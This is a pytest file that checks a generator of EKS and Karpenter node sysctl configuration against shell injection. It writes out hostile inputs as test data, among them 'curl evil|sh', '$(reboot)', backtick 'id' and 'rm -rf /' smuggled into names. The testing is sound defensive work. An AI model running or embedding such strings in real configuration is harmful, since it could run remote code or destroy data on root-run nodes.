"""Generated node configuration is run as root on every node: nothing in a name becomes shell syntax.

Sysctl names are checked against the kernel's syntax before any generator uses them, and every value
put into a shell command line is quoted; ``shlex.split`` of each generated command gives back exactly
the words meant, whatever the names contain.
"""

from __future__ import annotations

import email
import shlex

import pytest
import yaml

from handlers.sysctl import karpenter, nodeconfig
from handlers.sysctl.advice import advise
from handlers.sysctl.facts import AL2, AL2023, BOTTLEROCKET, NodeFacts, NodegroupFacts, SysctlFacts

MALICIOUS = [
    "net.ipv4.tcp_keepalive_time;curl evil|sh",
    "$(reboot)",
    "net.ipv4.tcp_keepalive_time' $(reboot) '",
    "`id`",
    "net.ipv4.x\n/bin/sh",
    "net.ipv4.x y",
    "net.ipv4..x",
    "NET.IPV4.X",
    "a" * 254,
    "",
]
GOOD = [
    "net.ipv4.tcp_keepalive_time",
    "net/ipv4/tcp_keepalive_intvl",
    "kernel.shm_rmid_forced",
    "kernel.msg*",
    "net.ipv4.ip_local_port_range",
    "fs.mqueue.msg_max",
]


@pytest.mark.parametrize("name", GOOD)
def test_real_sysctl_names_and_allow_list_patterns_are_accepted(name):
    assert nodeconfig.valid_sysctl(name)


@pytest.mark.parametrize("name", MALICIOUS)
def test_every_generator_refuses_a_name_the_kernel_could_not_have(name):
    sysctls = ["net.core.somaxconn", name]
    generators = [
        lambda: nodeconfig.al2_bootstrap_command("prod", "ng", "ami-1", sysctls),
        lambda: nodeconfig.eksctl_al2_custom_ami("prod", "r", "ng", sysctls),
        lambda: nodeconfig.eksctl_al2_self_managed("prod", "r", "ng", sysctls),
        lambda: nodeconfig.eksctl_bottlerocket("prod", "r", "ng", sysctls),
        lambda: nodeconfig.al2023_user_data(sysctls),
        lambda: nodeconfig.bottlerocket_toml(sysctls),
        lambda: karpenter.al2_karpenter_user_data(sysctls),
        *(
            lambda family=f: nodeconfig.files_for_nodegroup(family, "prod", "r", "ng", sysctls, custom_ami=False)
            for f in (AL2, AL2023, BOTTLEROCKET)
        ),
        *(
            lambda family=f: karpenter.files_for_nodeclass("default", family, sysctls)
            for f in (AL2, AL2023, BOTTLEROCKET)
        ),
    ]
    assert not nodeconfig.valid_sysctl(name)
    for generate in generators:
        with pytest.raises(ValueError, match="not a sysctl name"):
            generate()


def test_the_bootstrap_command_quotes_every_value():
    cluster, nodegroup, ami = "prod; curl evil|sh", "ng$(reboot)", "ami-1`id`"
    script = nodeconfig.al2_bootstrap_command(cluster, nodegroup, ami, ["net.ipv4.tcp_keepalive_time"])
    words = shlex.split(script.splitlines()[-1])
    assert words == [
        "/etc/eks/bootstrap.sh",
        cluster,
        "--kubelet-extra-args",
        f"--node-labels=alpha.eksctl.io/cluster-name={cluster},alpha.eksctl.io/nodegroup-name={nodegroup},"
        f"eks.amazonaws.com/nodegroup={nodegroup},eks.amazonaws.com/nodegroup-image={ami} "
        "--allowed-unsafe-sysctls=net.ipv4.tcp_keepalive_time",
    ]


def test_the_karpenter_al2_script_quotes_the_jq_program():
    mime = karpenter.al2_karpenter_user_data(["net.ipv4.tcp_keepalive_time", "kernel.msg*"])
    script = email.message_from_string(mime).get_payload()[0].get_payload()
    jq_line = next(line for line in script.splitlines() if line.startswith("jq "))
    words = shlex.split(jq_line)
    assert words[:3] == ["jq", '.allowedUnsafeSysctls = ["net.ipv4.tcp_keepalive_time", "kernel.msg*"]', "$CFG"]


def test_a_hostile_node_class_name_is_quoted_in_the_command_and_kept_out_of_the_file_name():
    (f,) = karpenter.files_for_nodeclass("x; rm -rf /\n--", AL2023, ["net.ipv4.tcp_keepalive_time"])
    assert "/" not in f["filename"] and "\n" not in f["filename"] and ";" not in f["filename"]
    command = f["content"].splitlines()[0]
    assert command.startswith("# kubectl patch ec2nodeclass 'x; rm -rf / --'")  # one quoted word, one line
    assert yaml.safe_load(f["content"])["metadata"]["name"] == "x; rm -rf /\n--"  # data stays data


@pytest.mark.parametrize("name", ["net.ipv4.tcp_keepalive_time;curl evil|sh", "$(reboot)"])
def test_a_pod_asking_for_a_malicious_sysctl_gets_no_file_with_it(name):
    facts = SysctlFacts(
        sysctls=((name, "60"), ("net.ipv4.tcp_keepalive_intvl", "10")),
        control_plane="v1.28.15-eks-1",
        nodes=(
            NodeFacts(
                name="node-0",
                kubelet="v1.28.15-eks-1",
                kernel="5.10.219-208.866.amzn2.x86_64",
                os_image="Amazon Linux 2",
                nodegroup="ng",
            ),
        ),
        nodegroups=(NodegroupFacts("ng", "AL2_x86_64", "1.28"),),
        karpenter=False,
        namespace="default",
        namespace_labels={},
        host_network=False,
        cluster="prod",
        region="ap-northeast-1",
    )
    advice = advise(facts)
    files = [f for finding in advice.findings for f in finding.data.get("files", [])]
    assert files  # the legitimate one still gets its node configuration
    for f in files:
        assert name not in f["content"] and "reboot" not in f["content"] and "evil" not in f["content"]
    assert any("tcp_keepalive_intvl" in f["content"] for f in files)
